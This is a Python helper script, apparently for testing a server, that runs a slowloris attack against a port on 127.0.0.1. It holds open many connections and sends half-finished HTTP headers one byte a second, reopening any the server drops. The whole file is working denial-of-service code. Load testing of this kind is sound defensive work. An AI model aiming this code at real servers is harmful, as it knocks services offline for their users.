"""A slowloris attacker run as its own process (its descriptors are not the agent's).

    python connreq_slowloris.py PORT COUNT SOURCE SECONDS

Keeps COUNT connections to 127.0.0.1:PORT open from SOURCE for SECONDS, each sending a
request's headers one byte a second and never finishing them; a connection the server closes
is opened again (at most COUNT a second). Prints "ready" once COUNT connects were tried, then
at the end one line: "opened=N closed_by_server=M".
"""

from __future__ import annotations

import errno
import resource
import selectors
import socket
import sys
import time

HEAD = b"GET /slow HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 4096


def main(port: int, count: int, source: str, seconds: float) -> None:
    """Run the attack."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 100)), hard))
    sel = selectors.DefaultSelector()
    sent: dict[socket.socket, int] = {}
    opened = closed = 0

    def connect() -> None:
        nonlocal opened
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.bind((source, 0))
        err = sock.connect_ex(("127.0.0.1", port))
        if err not in (0, errno.EINPROGRESS):
            sock.close()
            return
        opened += 1
        sent[sock] = 0
        sel.register(sock, selectors.EVENT_READ)

    for _ in range(count):
        connect()
    print("ready", flush=True)
    end = time.monotonic() + seconds
    next_byte = time.monotonic()
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.05):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                data = sock.recv(4096)
            except OSError:
                data = b""
            if not data:
                sel.unregister(sock)
                sent.pop(sock, None)
                sock.close()
                closed += 1
        if time.monotonic() >= next_byte:
            next_byte += 1.0
            for sock in list(sent):
                try:
                    sock.send(HEAD[sent[sock] : sent[sock] + 1])
                    sent[sock] = min(sent[sock] + 1, len(HEAD) - 1)
                except OSError:
                    pass
            for _ in range(min(count - len(sent), count)):
                connect()
    print(f"opened={opened} closed_by_server={closed}", flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], float(sys.argv[4]))
